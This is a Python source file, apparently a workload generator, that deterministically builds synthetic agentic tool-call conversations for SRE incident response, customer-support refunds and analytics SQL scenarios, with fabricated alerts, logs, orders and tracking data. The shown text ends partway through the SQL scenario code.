"""Agentic tool-call prompts: a seeded generator of multi-turn tool-use trajectories.

A prompt is a system prompt declaring several JSON tool schemas (OpenAI function format, in a `<tools>` block),
a user task, then assistant turns that think briefly and emit one `<tool_call>` (JSON name + arguments) each,
answered by user turns carrying `<tool_response>` JSON payloads (alerts, metric series, log lines, query rows,
file listings, test output, tracking events, ...). The last turn asks for a plan and the next tool call.

Eight scenario families, two variants each (different organisation, task, tool order and data), all drawn from
`random.Random(seed)`: the same seed gives the same bytes on every machine, no material is read.
"""

from __future__ import annotations

import json
import random
from dataclasses import dataclass, field
from datetime import datetime, timedelta
from typing import Any, Callable

from console.core.workload.gen_fit import LONG_FIT, SHORT_FIT, Messages, fit, pick
from console.core.workload.prompts import messages_tokens

GENERATOR = "console.core.workload.gen_tool"
SEED_BASE = 4100
SHORT_SEED_BASE = 4300

# ------------------------------------------------------------------------------------------------ data pools

FIRST = ["Ana", "Bruno", "Chen", "Dalia", "Emeka", "Farah", "Gustav", "Hana", "Ibrahim", "Jonas", "Keiko", "Lucia",
         "Mateo", "Nadia", "Omar", "Priya", "Quentin", "Rosa", "Sven", "Tariq", "Uma", "Viktor", "Wen", "Ximena",
         "Yusuf", "Zofia", "Amara", "Bilal", "Clara", "Diego", "Elif", "Felix", "Grace", "Hugo", "Ines", "Jamal"]
LAST = ["Silva", "Novak", "Okafor", "Lindqvist", "Tanaka", "Haddad", "Moreau", "Kowalski", "Fernandes", "Nguyen",
        "Schmidt", "Rossi", "Petrov", "Mensah", "Ibarra", "Kaur", "Johansson", "Costa", "Yilmaz", "Dubois",
        "Achterberg", "Banerjee", "Castillo", "Duarte", "Eriksen", "Fischer", "Gallagher", "Horvat", "Iqbal"]
ORGS = ["Northwind Outfitters", "Bluefin Logistics", "Kestrel Health", "Larkspur Media", "Meridian Freight",
        "Quarry Lane Foods", "Halcyon Bank", "Tidewater Energy", "Juniper Learning", "Arbor & Finch",
        "Copperleaf Insurance", "Saltmarsh Games", "Granite Peak Outdoor", "Vantage Clinics", "Brightwell Retail",
        "Osprey Analytics", "Fernhill Publishing", "Redwood Mobility", "Silverline Travel", "Cobalt Robotics"]
CITIES = [("Lisbon", "LIS", "Europe/Lisbon"), ("Berlin", "BER", "Europe/Berlin"), ("Tokyo", "HND", "Asia/Tokyo"),
          ("Toronto", "YYZ", "America/Toronto"), ("Singapore", "SIN", "Asia/Singapore"),
          ("Nairobi", "NBO", "Africa/Nairobi"), ("Sao Paulo", "GRU", "America/Sao_Paulo"),
          ("Madrid", "MAD", "Europe/Madrid"), ("Seoul", "ICN", "Asia/Seoul"), ("Chicago", "ORD", "America/Chicago"),
          ("Amsterdam", "AMS", "Europe/Amsterdam"), ("Melbourne", "MEL", "Australia/Melbourne"),
          ("Dubai", "DXB", "Asia/Dubai"), ("Vancouver", "YVR", "America/Vancouver"), ("Oslo", "OSL", "Europe/Oslo"),
          ("Mexico City", "MEX", "America/Mexico_City"), ("Zurich", "ZRH", "Europe/Zurich"),
          ("Bangalore", "BLR", "Asia/Kolkata"), ("Cape Town", "CPT", "Africa/Johannesburg"),
          ("Boston", "BOS", "America/New_York")]
REGIONS = ["us-east-1", "us-west-2", "eu-west-1", "eu-central-1", "ap-southeast-1", "ap-northeast-1", "sa-east-1"]


def _person(rng: random.Random) -> str:
    return f"{pick(rng, FIRST)} {pick(rng, LAST)}"


def _email(name: str, domain: str) -> str:
    first, last = name.lower().split(" ", 1)
    return f"{first}.{last.replace(' ', '')}@{domain}"


def _domain(org: str) -> str:
    return org.lower().replace(" & ", "").replace(" ", "") + ".com"


def _hex(rng: random.Random, n: int) -> str:
    return "".join(rng.choice("0123456789abcdef") for _ in range(n))


def _iso(t: datetime) -> str:
    return t.strftime("%Y-%m-%dT%H:%M:%SZ")


def _start(rng: random.Random) -> datetime:
    return datetime(2026, 1, 5) + timedelta(days=rng.randrange(160), hours=rng.randrange(6, 20),
                                            minutes=rng.randrange(60))


# --------------------------------------------------------------------------------------------- scenario model

def tool(name: str, description: str, props: dict[str, dict[str, Any]], required: list[str]) -> dict[str, Any]:
    return {"type": "function", "function": {"name": name, "description": description, "parameters": {
        "type": "object", "properties": props, "required": required, "additionalProperties": False}}}


def s(desc: str, **kw: Any) -> dict[str, Any]:
    return {"type": "string", "description": desc, **kw}


def i(desc: str, **kw: Any) -> dict[str, Any]:
    return {"type": "integer", "description": desc, **kw}


def n_(desc: str, **kw: Any) -> dict[str, Any]:
    return {"type": "number", "description": desc, **kw}


def b(desc: str) -> dict[str, Any]:
    return {"type": "boolean", "description": desc}


def arr(desc: str, items: dict[str, Any]) -> dict[str, Any]:
    return {"type": "array", "description": desc, "items": items}


def obj(desc: str, props: dict[str, Any]) -> dict[str, Any]:
    return {"type": "object", "description": desc, "properties": props}


@dataclass
class Step:
    thought: str
    name: str
    args: dict[str, Any]
    n_items: int
    result: Callable[[int], Any]
    """k (1..n_items) -> the JSON payload with its first k items."""


@dataclass
class Scenario:
    family: str
    org: str
    role: str
    tools: list[dict[str, Any]]
    task: str
    steps: list[Step]
    final: str
    rules: list[str] = field(default_factory=list)
    pretty: bool = False
    compact: bool = False
    """The short form's system prompt: tool schemas and the call syntax only."""


COMMON_RULES = [
    "Call exactly one tool per turn and wait for its result before deciding the next step.",
    "Never invent identifiers: only use ids, paths and names that appeared in earlier tool results.",
    "Arguments must be valid JSON matching the tool's schema; omit optional fields you do not need.",
    "Before any action that changes state (refunds, rollbacks, bookings, emails), state what you expect it to do.",
    "Prefer narrow queries (short time windows, explicit limits) over broad ones.",
    "If a result is truncated or ambiguous, refine the query instead of guessing.",
    "Keep your reasoning between calls to two or three sentences.",
    "Timestamps are UTC unless a tool result says otherwise.",
    "Ask the user before spending money or contacting anyone outside the organisation.",
    "Summarise what you found when the task is complete, citing the tool results you relied on.",
]


def render(sc: Scenario, n_units: int) -> Messages:
    """System + task + as many steps as `n_units` result items allow (the last step may be cut short)."""
    sep = ",\n" if sc.pretty else "\n"
    schemas = sep.join(json.dumps(t, indent=2 if sc.pretty else None, ensure_ascii=False) for t in sc.tools)
    rules = "\n".join(f"- {r}" for r in sc.rules)
    if sc.compact:
        system = (f"You are {sc.role} at {sc.org}. Available tools (JSON schemas):\n<tools>\n{schemas}\n</tools>\n"
                  "Call a tool with <tool_call>{\"name\": ..., \"arguments\": {...}}</tool_call>; results come back "
                  "in <tool_response> blocks." + (f"\n{rules}" if rules else ""))
    else:
        system = (f"You are {sc.role} at {sc.org}. You solve tasks by calling tools.\n\n"
                  f"# Tools\n\nYou may call one or more of the following functions. Their JSON schemas are "
                  f"listed inside <tools></tools>:\n<tools>\n{schemas}\n</tools>\n\n"
                  "To call a function, write a JSON object with the function name and its arguments inside "
                  "<tool_call></tool_call> tags, for example:\n<tool_call>\n"
                  '{"name": "<function-name>", "arguments": {"<arg>": "<value>"}}\n</tool_call>\n'
                  "Each result comes back in a <tool_response></tool_response> block.\n\n"
                  f"# Rules\n\n{rules}")
    msgs: Messages = [{"role": "system", "content": system}, {"role": "user", "content": sc.task}]
    left = n_units
    for st in sc.steps:
        if left <= 0:
            break
        k = min(left, st.n_items)
        left -= k
        call = json.dumps({"name": st.name, "arguments": st.args}, ensure_ascii=False)
        msgs.append({"role": "assistant", "content": f"{st.thought}\n<tool_call>\n{call}\n</tool_call>"})
        payload = json.dumps(st.result(k), ensure_ascii=False, indent=2 if sc.pretty else None)
        msgs.append({"role": "user", "content": f"<tool_response>\n{payload}\n</tool_response>"})
    msgs[-1] = {"role": "user", "content": msgs[-1]["content"] + "\n\n" + sc.final}
    return msgs


def _capacity(sc: Scenario) -> int:
    return sum(st.n_items for st in sc.steps)


# ------------------------------------------------------------------------------------------------ family: SRE

SERVICES = ["checkout-api", "payments-gateway", "inventory-svc", "search-api", "auth-service", "notification-worker",
            "order-events-consumer", "pricing-engine", "cart-service", "recommendation-api", "shipping-quotes",
            "user-profile", "ledger-writer", "fraud-scorer", "catalog-sync", "session-store"]
DEPS = ["postgres-orders", "redis-sessions", "kafka-orders", "elasticsearch-catalog", "stripe-proxy",
        "s3-media", "memcached-pricing", "grpc-tax-service", "postgres-ledger", "rabbitmq-notify"]
LOG_ERRORS = [
    "upstream request timeout after {ms}ms calling {dep}",
    "connection pool exhausted (max={pool}, waiting={wait})",
    "context deadline exceeded while reading from {dep}",
    "circuit breaker OPEN for {dep}: 50% failures in last 20 calls",
    "retrying request to {dep} attempt={att} backoff_ms={ms}",
    "received 503 Service Unavailable from {dep}",
    "slow query: duration_ms={ms} statement=SELECT ... FROM order_items WHERE order_id = $1",
    "TLS handshake timeout dialing {dep}:443",
    "read ECONNRESET from {dep}",
    "failed to acquire advisory lock orders_{att} within {ms}ms",
    "consumer rebalance in progress, partitions revoked: [{att}, {pool}]",
    "GC pause of {ms}ms exceeded budget",
]


def _series(rng: random.Random, t0: datetime, step_s: int, n: int, base: float, spike_at: int, spike: float,
            digits: int = 1) -> list[list[Any]]:
    out = []
    for j in range(n):
        v = base * (1 + rng.uniform(-0.08, 0.08))
        if j >= spike_at:
            v *= spike * (1 + rng.uniform(-0.15, 0.15))
        out.append([_iso(t0 + timedelta(seconds=step_s * j)), round(v, digits)])
    return out


def fam_sre(rng: random.Random, variant: int) -> Scenario:
    org = pick(rng, ORGS)
    svc, dep1, dep2 = rng.sample(SERVICES, 1)[0], *rng.sample(DEPS, 2)
    t0 = _start(rng)
    inc = f"INC-{rng.randrange(2000, 9999)}"
    if variant == 0:
        metric, unit, base, spike = "http_server_request_duration_p99", "ms", rng.uniform(120, 260), rng.uniform(6, 14)
        task = (f"{inc} was opened {rng.randrange(8, 25)} minutes ago: customers report that {svc} is timing out "
                f"and the p99 latency alert fired. Find the cause, decide whether a rollback is warranted, and keep "
                f"the incident channel informed. Nothing has been changed yet.")
    else:
        metric, unit, base, spike = "consumer_group_lag_messages", "messages", rng.uniform(200, 900), rng.uniform(30, 80)
        task = (f"The backlog alert for {svc} has been firing since {_iso(t0)[11:16]} UTC and downstream teams see "
                f"stale data. Work out why the consumers fell behind, whether it is still growing, and what we "
                f"should do about it. Post an update on {inc} when you have a first hypothesis.")
    tools = [
        tool("list_alerts", "List alerts currently firing or resolved in a time range.",
             {"service": s("Service name; omit for all services."),
              "severity": s("Minimum severity.", enum=["critical", "warning", "info"]),
              "since": s("ISO-8601 start time.")}, ["since"]),
        tool("query_metrics", "Query a metric time series for a service (Prometheus-backed).",
             {"metric": s("Metric name."), "service": s("Service label."), "start": s("ISO-8601 start."),
              "end": s("ISO-8601 end."), "step_seconds": i("Resolution in seconds.", minimum=15),
              "aggregation": s("How to aggregate instances.", enum=["avg", "max", "sum", "p95", "p99"])},
             ["metric", "service", "start", "end"]),
        tool("search_logs", "Search structured logs. Returns newest first.",
             {"query": s("Lucene-style query, e.g. level:error AND route:/v1/cart"), "service": s("Service name."),
              "start": s("ISO-8601 start."), "end": s("ISO-8601 end."), "limit": i("Max lines.", maximum=200)},
             ["query", "start", "end"]),
        tool("get_deployment_history", "Recent deployments of a service.",
             {"service": s("Service name."), "environment": s("Environment.", enum=["prod", "staging"]),
              "limit": i("How many revisions.")}, ["service", "environment"]),
        tool("get_service_dependencies", "Downstream dependencies of a service with their current health.",
             {"service": s("Service name.")}, ["service"]),
        tool("rollback_deployment", "Roll a service back to an earlier revision.",
             {"service": s("Service name."), "environment": s("Environment.", enum=["prod", "staging"]),
              "to_revision": s("Revision id from get_deployment_history."), "reason": s("Why.")},
             ["service", "environment", "to_revision", "reason"]),
        tool("post_status_update", "Post an update to the incident channel and status page.",
             {"incident_id": s("Incident id."), "status": s("Status.", enum=["investigating", "identified",
                                                                              "monitoring", "resolved"]),
              "message": s("Update text, plain language.")}, ["incident_id", "status", "message"]),
        tool("page_oncall", "Page the on-call engineer of a team.",
             {"team": s("Team slug."), "urgency": s("Urgency.", enum=["high", "low"]), "summary": s("Summary.")},
             ["team", "urgency", "summary"]),
    ]
    w0, w1 = _iso(t0 - timedelta(minutes=45)), _iso(t0 + timedelta(minutes=30))
    steps: list[Step] = []
    alerts = []
    for j in range(rng.randrange(9, 15)):
        sv = svc if j == 0 else pick(rng, SERVICES)
        alerts.append({"id": f"alr-{_hex(rng, 8)}", "service": sv,
                       "title": pick(rng, ["High p99 latency", "Error budget burn rate", "Pod restarts",
                                           "Consumer lag above threshold", "CPU throttling", "5xx ratio above 2%",
                                           "Disk usage above 85%", "Saturated connection pool"]),
                       "severity": "critical" if j < 3 else pick(rng, ["warning", "info", "critical"]),
                       "started_at": _iso(t0 - timedelta(minutes=rng.randrange(0, 90))),
                       "status": pick(rng, ["firing", "firing", "resolved"]),
                       "labels": {"env": "prod", "region": pick(rng, REGIONS), "team": sv.split("-")[0]}})
    steps.append(Step(f"Starting with what is firing right now around {svc} to see whether this is isolated.",
                      "list_alerts", {"severity": "warning", "since": _iso(t0 - timedelta(hours=2))},
                      len(alerts), lambda k, a=alerts: {"alerts": a[:k], "returned": k, "total": len(a)}))
    deps = rng.sample(DEPS, 6)
    if dep1 not in deps:
        deps[0] = dep1
    dep_rows = [{"name": d, "protocol": pick(rng, ["grpc", "http", "tcp", "kafka"]),
                 "p99_ms": round(rng.uniform(3, 60) * (rng.uniform(8, 20) if d == dep1 else 1), 1),
                 "error_rate": round(rng.uniform(0, 0.004) + (rng.uniform(0.05, 0.2) if d == dep1 else 0), 4),
                 "owner": pick(rng, ["platform", "data", "payments", "storefront"])} for d in deps]
    steps.append(Step(f"Checking the health of {svc}'s downstream dependencies before reading metrics.",
                      "get_service_dependencies", {"service": svc}, len(dep_rows),
                      lambda k, r=dep_rows: {"service": svc, "dependencies": r[:k]}))

    def metric_step(m: str, sv: str, base_v: float, spike_v: float, thought: str, digits: int = 1) -> None:
        pts = _series(rng, t0 - timedelta(minutes=45), 60, rng.randrange(50, 76), base_v,
                      rng.randrange(20, 40), spike_v, digits)
        steps.append(Step(thought, "query_metrics",
                          {"metric": m, "service": sv, "start": w0, "end": w1, "step_seconds": 60,
                           "aggregation": pick(rng, ["max", "p99", "avg"])}, len(pts),
                          lambda k, p=pts: {"metric": m, "service": sv, "unit": unit if m == metric else "",
                                            "points": p[:k]}))

    def log_step(sv: str, query: str, thought: str) -> None:
        lines = []
        for j in range(rng.randrange(18, 32)):
            msg = pick(rng, LOG_ERRORS).format(ms=rng.randrange(200, 30000), dep=pick(rng, [dep1, dep1, dep2]),
                                               pool=rng.randrange(16, 128), wait=rng.randrange(1, 400),
                                               att=rng.randrange(1, 6))
            lines.append({"ts": _iso(t0 + timedelta(seconds=rng.randrange(-1500, 1500))),
                          "level": pick(rng, ["error", "error", "warn"]), "service": sv,
                          "pod": f"{sv}-{_hex(rng, 5)}-{_hex(rng, 5)}", "trace_id": _hex(rng, 16),
                          "route": pick(rng, ["/v1/checkout", "/v1/cart/items", "/v2/orders", "/healthz",
                                              "/v1/quotes", "/internal/reindex"]), "msg": msg})
        lines.sort(key=lambda r: r["ts"], reverse=True)
        steps.append(Step(thought, "search_logs", {"query": query, "service": sv, "start": w0, "end": w1,
                                                    "limit": 50}, len(lines),
                          lambda k, ls=lines: {"hits": ls[:k], "returned": k, "took_ms": 41}))

    metric_step(metric, svc, base, spike, f"Pulling {metric} for {svc} across the window to pin the onset.")
    log_step(svc, "level:(error OR warn)", f"The series steps up sharply; reading {svc}'s errors around the onset.")
    revs = []
    for j in range(rng.randrange(7, 12)):
        revs.append({"revision": f"r{rng.randrange(1000, 9999)}-{_hex(rng, 7)}",
                     "deployed_at": _iso(t0 - timedelta(hours=j * rng.uniform(3, 30), minutes=rng.randrange(60))),
                     "author": _person(rng), "image": f"registry.internal/{svc}:{_hex(rng, 12)}",
                     "change": pick(rng, ["bump client timeout defaults", "enable connection reuse for " + dep1,
                                          "upgrade grpc to 1.66", "add retries on 503", "refactor cart pricing",
                                          "raise pool size to 64", "new feature flag: async-tax", "log sampling 10%",
                                          "switch to batched writes", "dependency refresh"]),
                     "status": "succeeded"})
    steps.append(Step("The errors point at a dependency, but a deploy could have changed client behaviour; "
                      "checking what shipped recently.", "get_deployment_history",
                      {"service": svc, "environment": "prod", "limit": 12}, len(revs),
                      lambda k, r=revs: {"service": svc, "revisions": r[:k]}))
    metric_step("error_ratio", svc, 0.004, rng.uniform(8, 30), "Comparing the error ratio with the latency series.", 4)
    for d in [dep1, dep2] + rng.sample(DEPS, 4):
        metric_step(pick(rng, ["pool_connections_in_use", "request_duration_p99", "cpu_utilisation",
                               "queue_depth", "replication_lag_seconds"]), d, rng.uniform(5, 80),
                    rng.uniform(1.0, 6.0) if d in (dep1, dep2) else rng.uniform(0.9, 1.2),
                    f"Checking whether {d} degraded at the same time.")
        log_step(d, pick(rng, ["level:error", "timeout OR deadline", "msg:pool*", "status:503"]),
                 f"Looking for matching errors on the {d} side.")
    final = pick(rng, [
        "Here is the latest result. What is your next step? Give a short numbered plan for the rest of the "
        "investigation (at most five steps), then make exactly one tool call.",
        f"The incident commander asks for a decision within ten minutes. Based on everything above, lay out what "
        f"you believe happened and what you will do next, then emit the next <tool_call>.",
    ])
    return Scenario("sre-incident", org, pick(rng, ["the on-call site reliability agent", "an incident-response "
                                                    "assistant"]), tools[:] if variant == 0 else
                    [tools[k] for k in (4, 0, 2, 1, 3, 6, 7, 5)], task, steps, final,
                    rules=pick(rng, COMMON_RULES, 6), pretty=variant == 1)


# ------------------------------------------------------------------------------------ family: customer support

PRODUCTS = [("Trailrunner 2 jacket", "apparel", 189.0), ("Alpine down vest", "apparel", 149.0),
            ("Summit 45L backpack", "bags", 229.0), ("Ridge trekking poles", "gear", 89.5),
            ("Basecamp 3P tent", "shelter", 449.0), ("Glacier sleeping bag -7C", "sleep", 319.0),
            ("Canyon water filter", "gear", 54.9), ("Tundra insulated bottle 1L", "kitchen", 39.0),
            ("Nomad camp stove", "kitchen", 129.0), ("Horizon headlamp 400lm", "lighting", 64.0),
            ("Coastline rain pants", "apparel", 119.0), ("Drift merino base layer", "apparel", 95.0),
            ("Switchback hiking boots", "footwear", 259.0), ("Cascade trail shoes", "footwear", 169.0),
            ("Pathfinder GPS watch", "electronics", 399.0), ("Ember solar lantern", "lighting", 49.0)]
CARRIERS = ["DHL Express", "UPS", "FedEx", "PostNL", "Royal Mail", "Canada Post", "Correos"]
TRACK_EVENTS = ["Shipment information received", "Picked up", "Departed facility", "Arrived at sort facility",
                "In transit", "Customs clearance completed", "Out for delivery", "Delivery attempted - no access",
                "Held at local depot", "Delivered - left at front door", "Exception: address incomplete"]


def fam_support(rng: random.Random, variant: int) -> Scenario:
    org = pick(rng, ORGS)
    dom = _domain(org)
    cust = _person(rng)
    cid = f"cus_{_hex(rng, 10)}"
    city = pick(rng, CITIES)
    if variant == 0:
        task = (f"Customer {cust} ({_email(cust, 'mailbox.org')}) wrote in: \"My {pick(rng, PRODUCTS)[0]} arrived "
                f"with a torn seam and the box was crushed. I'd like my money back, not a replacement.\" Verify the "
                f"order, check the return policy for the category, and resolve it. Refunds above 250 EUR need a "
                f"supervisor ticket instead of a direct refund.")
    else:
        task = (f"{cust} says the parcel for their last order never arrived in {city[0]}, although tracking shows "
                f"it as delivered. Investigate the shipment, look at their history with us, and propose how to make "
                f"it right. Be careful: we have seen fraudulent 'not received' claims this month.")
    tools = [
        tool("search_customers", "Find customers by name, email or phone.",
             {"query": s("Free text."), "limit": i("Max results.")}, ["query"]),
        tool("get_customer", "Customer profile with lifetime stats and flags.", {"customer_id": s("Customer id.")},
             ["customer_id"]),
        tool("list_orders", "Orders of a customer, newest first.",
             {"customer_id": s("Customer id."), "status": s("Filter.", enum=["any", "open", "shipped", "delivered",
                                                                             "returned", "refunded"]),
              "limit": i("Max orders.")}, ["customer_id"]),
        tool("get_order", "Full order with line items, payments and shipments.", {"order_id": s("Order id.")},
             ["order_id"]),
        tool("get_shipment_tracking", "Carrier tracking events for a shipment.",
             {"tracking_number": s("Tracking number."), "carrier": s("Carrier name.")}, ["tracking_number"]),
        tool("get_return_policy", "Return and refund policy clauses for a product category and country.",
             {"category": s("Product category."), "country": s("ISO country code.")}, ["category"]),
        tool("search_tickets", "Previous support tickets of a customer.",
             {"customer_id": s("Customer id."), "limit": i("Max tickets.")}, ["customer_id"]),
        tool("issue_refund", "Refund all or part of an order to the original payment method.",
             {"order_id": s("Order id."), "line_item_ids": arr("Line items to refund.", s("Line item id.")),
              "amount": n_("Amount in order currency."), "reason": s("Reason code.", enum=[
                  "damaged", "not_received", "wrong_item", "goodwill"])}, ["order_id", "amount", "reason"]),
        tool("create_ticket", "Open a ticket for another team.",
             {"queue": s("Queue.", enum=["supervisor", "fraud", "logistics"]), "subject": s("Subject."),
              "body": s("Details."), "order_id": s("Related order.")}, ["queue", "subject", "body"]),
        tool("send_customer_message", "Email the customer.",
             {"customer_id": s("Customer id."), "subject": s("Subject."), "body": s("Plain-text body.")},
             ["customer_id", "subject", "body"]),
    ]
    steps: list[Step] = []
    matches = [{"customer_id": cid if j == 0 else f"cus_{_hex(rng, 10)}",
                "name": cust if j == 0 else f"{cust.split()[0]} {pick(rng, LAST)}",
                "email": _email(cust, "mailbox.org") if j == 0 else _email(_person(rng), "example.net"),
                "country": pick(rng, ["PT", "DE", "NL", "FR", "ES", "GB"]), "orders": rng.randrange(1, 30)}
               for j in range(rng.randrange(4, 8))]
    steps.append(Step(f"Looking up {cust} to get the customer id.", "search_customers",
                      {"query": cust, "limit": 10}, len(matches), lambda k, m=matches: {"results": m[:k]}))
    profile_flags = [{"flag": f, "set_at": _iso(_start(rng))} for f in rng.sample(
        ["vip", "chargeback_2025", "address_verified", "newsletter", "multiple_claims_90d", "b2b"], 3)]
    ltv, claims = round(rng.uniform(300, 6000), 2), rng.randrange(0, 4)
    steps.append(Step("Reading the profile for lifetime value and any risk flags.", "get_customer",
                      {"customer_id": cid}, len(profile_flags),
                      lambda k, f=profile_flags: {"customer_id": cid, "name": cust, "since": "2021-04-17",
                                                  "lifetime_value_eur": ltv, "claims_last_90d": claims,
                                                  "flags": f[:k]}))
    orders = []
    t = _start(rng)
    for j in range(rng.randrange(10, 16)):
        oid = f"ord_{rng.randrange(10 ** 7, 10 ** 8)}"
        t -= timedelta(days=rng.randrange(3, 50))
        orders.append({"order_id": oid, "placed_at": _iso(t), "status": pick(rng, ["delivered", "delivered",
                                                                                    "shipped", "returned"]),
                       "total": round(rng.uniform(40, 700), 2), "currency": "EUR", "items": rng.randrange(1, 5)})
    steps.append(Step("Listing recent orders to find the one in question.", "list_orders",
                      {"customer_id": cid, "status": "any", "limit": 20}, len(orders),
                      lambda k, o=orders: {"orders": o[:k], "has_more": k < len(o)}))
    tickets = [{"ticket_id": f"T-{rng.randrange(100000, 999999)}", "opened_at": _iso(_start(rng)),
                "subject": pick(rng, ["Where is my order?", "Wrong size delivered", "Refund not received",
                                      "Item damaged", "Change delivery address", "Discount code not applied"]),
                "resolution": pick(rng, ["refunded", "replacement sent", "closed - no response", "explained policy"]),
                "agent": _person(rng)} for _ in range(rng.randrange(5, 10))]
    steps.append(Step("Checking previous tickets for a pattern of claims.", "search_tickets",
                      {"customer_id": cid, "limit": 20}, len(tickets), lambda k, tk=tickets: {"tickets": tk[:k]}))
    for o in orders:
        lines = []
        for j in range(o["items"] + rng.randrange(0, 3)):
            p = pick(rng, PRODUCTS)
            lines.append({"line_item_id": f"li_{_hex(rng, 8)}", "sku": f"{p[1][:3].upper()}-{rng.randrange(1000, 9999)}",
                          "name": p[0], "category": p[1], "qty": rng.randrange(1, 3), "unit_price": p[2],
                          "shipment_id": f"shp_{_hex(rng, 6)}"})
        tn = f"{rng.randrange(10 ** 11, 10 ** 12)}"
        car = pick(rng, CARRIERS)
        addr = {"city": city[0], "line1": f"Rua {pick(rng, LAST)} {rng.randrange(1, 200)}"}
        steps.append(Step(f"Opening {o['order_id']} to see its line items and shipment.", "get_order",
                          {"order_id": o["order_id"]}, len(lines),
                          lambda k, o=o, ls=lines, tn=tn, car=car: {
                              **o, "line_items": ls[:k], "payment": {"method": "card", "last4": "4242",
                                                                     "captured": True},
                              "shipments": [{"tracking_number": tn, "carrier": car}],
                              "shipping_address": addr}))
        evs = []
        te = datetime.fromisoformat(o["placed_at"][:-1])
        for e in TRACK_EVENTS[:rng.randrange(5, len(TRACK_EVENTS))]:
            te += timedelta(hours=rng.randrange(2, 30))
            evs.append({"time": _iso(te), "status": e, "location": pick(rng, CITIES)[0]})
        steps.append(Step(f"Checking the {car} tracking for that shipment.", "get_shipment_tracking",
                          {"tracking_number": tn, "carrier": car}, len(evs),
                          lambda k, ev=evs, tn=tn: {"tracking_number": tn, "events": ev[:k],
                                                    "proof_of_delivery": {"signature": None, "photo": bool(k % 2)}}))
    clauses = [f"{j + 1}. " + c for j, c in enumerate([
        "Items may be returned within 30 days of delivery in original condition.",
        "Damaged-on-arrival claims require photos submitted within 14 days.",
        "Refunds go to the original payment method within 5 business days.",
        "Outbound shipping is refunded only for damaged or incorrect items.",
        "Claims of non-delivery are investigated with the carrier before refunding (up to 10 business days).",
        "Goodwill credits up to 30 EUR may be issued without supervisor approval.",
        "Customers with more than two non-delivery claims in 90 days are referred to the fraud queue.",
        "Used footwear and opened sleeping systems are final sale unless defective."])]
    steps.insert(4, Step("Reading the return policy before deciding anything.", "get_return_policy",
                         {"category": "apparel", "country": "PT"}, len(clauses),
                         lambda k, c=clauses: {"category": "apparel", "clauses": c[:k], "version": "2026-02"}))
    final = pick(rng, [
        "That is everything so far. Decide how to resolve the case: explain your reasoning in a few sentences, "
        "list the remaining steps, and make the next tool call.",
        "Before you act: summarise what the evidence says about this claim, then issue the next tool call that "
        "moves the case forward (only one).",
    ])
    order = list(range(len(tools))) if variant == 0 else [0, 1, 2, 6, 3, 4, 5, 8, 7, 9]
    return Scenario("customer-support", org, pick(rng, ["a customer-support agent", "the tier-2 support assistant"]),
                    [tools[k] for k in order], task, steps, final, rules=pick(rng, COMMON_RULES, 5),
                    pretty=variant == 0)


# --------------------------------------------------------------------------------------- family: analytics SQL

TABLES = {
    "events": [("event_id", "STRING"), ("user_id", "STRING"), ("event_name", "STRING"), ("event_ts", "TIMESTAMP"),
               ("platform", "STRING"), ("country", "STRING"), ("session_id", "STRING"), ("properties", "JSON")],
    "users": [("user_id", "STRING"), ("signup_ts", "TIMESTAMP"), ("acquisition_channel", "STRING"),
              ("plan", "STRING"), ("country", "STRING"), ("is_test", "BOOLEAN")],
    "orders": [("order_id", "STRING"), ("user_id", "STRING"), ("created_ts", "TIMESTAMP"), ("region", "STRING"),
               ("currency", "STRING"), ("gross_amount", "NUMERIC"), ("discount_amount", "NUMERIC"),
               ("refund_amount", "NUMERIC"), ("status", "STRING")],
    "fx_rates": [("rate_date", "DATE"), ("currency", "STRING"), ("eur_per_unit", "NUMERIC")],
    "subscriptions": [("subscription_id", "STRING"), ("user_id", "STRING"), ("started_ts", "TIMESTAMP"),
                      ("cancelled_ts", "TIMESTAMP"), ("plan", "STRING"), ("mrr_eur", "NUMERIC")],
    "marketing_spend": [("spend_date", "DATE"), ("channel", "STRING"), ("region", "STRING"),
                        ("amount_eur", "NUMERIC"), ("campaign", "STRING")],
}
SQL_REGIONS = ["EMEA-North", "EMEA-South", "NA-East", "NA-West", "LATAM", "APAC-North", "APAC-South"]


def fam_sql(rng: random.Random, variant: int) -> Scenario:
    org = pick(rng, ORGS)
    ds = pick(rng, ["analytics", "warehouse", "prod_dwh", "bi"])
    t0 = _start(rng)
    if variant == 0:
        task = (f"Product wants weekly retention by signup cohort for the last 12 weeks, split by acquisition "
                f"channel, excluding test accounts. Build the query step by step against the {ds} dataset, sanity-"
                f"check the numbers, and put a chart on the growth dashboard.")
    else:
        task = (f"Finance flagged that net revenue for {pick(rng, SQL_REGIONS)} dropped about "
                f"{rng.randrange(12, 35)}% week over week while other regions were flat. Figure out whether it is "
                f"real (orders, refunds, currency) or a data problem, using the {ds} dataset.")
    tools = [
        tool("list_tables", "List tables in a dataset with row counts.", {"dataset": s("Dataset name.")}, ["dataset"]),
        tool("describe_table", "Columns, types and descriptions of a table.",
             {"table": s("Fully qualified table name.")}, ["table"]),
        tool("run_sql", "Run a read-only SQL query (BigQuery dialect). Results are capped at `limit` rows.",
             {"query": s("SQL text."), "limit": i("Row cap.", maximum=500), "dry_run": b("Only validate and cost.")},
             ["query"]),
        tool("get_query_history", "Recent queries by the analytics team on a table.",
             {"table": s("Table name."), "limit": i("Max entries.")}, ["table"]),
        tool("create_chart", "Create a chart from a saved query result.",
             {"query_id": s("Query id from run_sql."), "kind": s("Chart kind.", enum=["line", "bar", "heatmap",
                                                                                      "table"]),
              "x": s("X column."), "y": arr("Y columns.", s("Column.")), "title": s("Title.")},
             ["query_id", "kind", "x", "y"]),
        tool("add_to_dashboard", "Pin a chart on a dashboard.",
             {"dashboard": s("Dashboard slug."), "chart_id": s("Chart id."), "position": i("Tile index.")},
             ["dashboard", "chart_id"]),
    ]
    steps: list[Step] = []
    tbls = [{"table": f"{ds}.{t}", "rows": rng.randrange(10 ** 5, 10 ** 9), "partitioned_by": c[3][0]
             if len(c) > 3 else None, "updated": _iso(t0 - timedelta(hours=rng.randrange(1, 30)))}
            for t, c in TABLES.items()]
    steps.append(Step(f"Starting with what exists in {ds}.", "list_tables", {"dataset": ds}, len(tbls),
                      lambda k, tb=tbls: {"dataset": ds, "tables": tb[:k]}))
    for t in (["users", "events", "subscriptions"] if variant == 0 else ["orders", "fx_rates", "marketing_spend"]):
        cols = [{"name": c, "type": ty, "nullable": c not in ("user_id", "order_id", "event_id"),
                 "description": f"{c.replace('_', ' ')}"} for c, ty in TABLES[t]]
        steps.append(Step(f"Checking the schema of {t} before writing joins.", "describe_table",
                          {"table": f"{ds}.{t}"}, len(cols), lambda k, c=cols, t=t: {"table": f"{ds}.{t}",
